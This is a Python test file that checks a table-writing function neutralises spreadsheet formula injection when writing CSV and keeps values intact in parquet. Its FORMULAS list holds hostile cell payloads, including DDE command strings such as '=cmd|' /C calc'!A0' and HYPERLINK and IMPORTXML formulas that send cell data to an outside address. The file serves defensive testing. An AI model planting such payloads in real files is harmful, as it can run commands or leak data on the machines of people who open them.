"""A table that is written and opened in a spreadsheet computes nothing of a stranger's."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd

from holdfast.verbs import write_table

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.org?\"&A1)", "\t=1", "\r=1",
    "=IMPORTXML(\"https://example.org\",\"//a\")", "+49 30 =1", "x;=1+1", "x\t=1+1", "\"=1", "-cmd|x!A0", "@x", "=\n1",
)  # fmt: skip


def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, attack: Any) -> None:
    counted = attack(
        "Formulas in tables that are written",
        "texts that begin with = + - @, tabs and line breaks, or hold separators before one; as names of columns,"
        " labels and values, divided at commas, semicolons or tabs",
        "written as text; parquet holds them as they are",
    )
    for formula in FORMULAS:
        frame = pd.DataFrame({formula: ["a", "b"], "label": [formula, "x"], "mixed": [1.5, formula]})
        write_table(tmp_path / "t.csv", frame)
        text = (tmp_path / "t.csv").read_bytes().decode()
        for divided in (",", ";", "\t"):
            for row in csv.reader(text.splitlines(keepends=True), delimiter=divided):
                for cell in row:
                    assert not (len(cell) > 1 and cell[0] in "=+-@"), (formula, divided, row)
        write_table(tmp_path / "t.parquet", frame)
        assert pd.read_parquet(tmp_path / "t.parquet")["label"][0] == formula
        counted.again(3)
